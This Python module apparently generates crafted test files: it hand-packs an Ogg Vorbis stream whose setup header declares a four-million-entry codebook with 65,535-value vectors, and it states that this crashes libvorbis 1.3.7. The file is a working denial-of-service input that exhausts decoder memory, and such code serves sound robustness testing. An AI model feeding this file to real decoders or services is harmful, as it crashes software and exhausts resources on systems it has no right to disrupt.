"""Small files that make a decoder crash or fill the memory: they claim, or unpack to, far more than they are."""

import struct
from collections.abc import Sequence


class _Bits:
    """Numbers of some bits each, the lowest bit first, as Vorbis packs them."""

    def __init__(self) -> None:
        self.value = self.n_bits = 0

    def put(self, *pairs: tuple[int, int]) -> "_Bits":
        for value, n_bits in pairs:
            self.value |= value << self.n_bits
            self.n_bits += n_bits
        return self

    def packed(self) -> bytes:
        return self.value.to_bytes((self.n_bits + 7) // 8, "little")


def vorbis(*, log2_entries: int = 22) -> bytes:
    """28 kB whose codebook has 2**`log2_entries` codewords of equal length and vectors of 65,535 values; libvorbis 1.3.7 crashes on it."""
    identity = b"\x01vorbis" + struct.pack("<IBIiiiB", 0, 1, 8000, 0, 64_000, 0, 0xB8) + b"\x01"
    remarks = b"\x03vorbis" + struct.pack("<I", 4) + b"test" + struct.pack("<I", 0) + b"\x01"
    n = 1 << log2_entries
    setup = _Bits().put((0, 8), (0x564342, 24), (1, 16), (n, 24), (1, 1), (log2_entries - 1, 5), (n, n.bit_length()), (0, 4))
    setup.put((0, 6), (0, 16))
    setup.put((0, 6), (1, 16), (0, 5), (0, 2), (7, 4))
    setup.put((0, 6), (0, 16), (0, 24), (128, 24), (31, 24), (0, 6), (0, 8), (0, 3), (0, 1))
    setup.put((0, 6), (0, 16), (0, 1), (0, 1), (0, 2), (0, 8), (0, 8), (0, 8))
    setup.put((0, 6), (0, 1), (0, 16), (0, 16), (0, 8), (1, 1))
    silence = bytes(4)
    pages = [_page([identity], number=0, flags=2), _page([remarks, b"\x05vorbis" + setup.packed()], number=1)]
    pages += [_page([silence] * 50, number=number, position=6400 * (number - 1)) for number in range(2, 102)]
    return b"".join([*pages, _page([silence], number=102, position=640_000, flags=4)])


def _page(packets: Sequence[bytes], *, number: int, position: int = 0, flags: int = 0) -> bytes:
    sizes = b"".join(b"\xff" * (len(packet) // 255) + bytes([len(packet) % 255]) for packet in packets)
    head = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, position, 1, number, 0, len(sizes))
    page = head + sizes + b"".join(packets)
    return page[:22] + struct.pack("<I", _checksum(page)) + page[26:]


def _checksum(page: bytes) -> int:
    """CRC-32 of Ogg: polynomial 04c11db7, nothing reflected."""
    found = 0
    for byte in page:
        found ^= byte << 24
        for _ in range(8):
            found = (found << 1) ^ (0x04C11DB7 if found & 0x80000000 else 0)
        found &= 0xFFFFFFFF
    return found
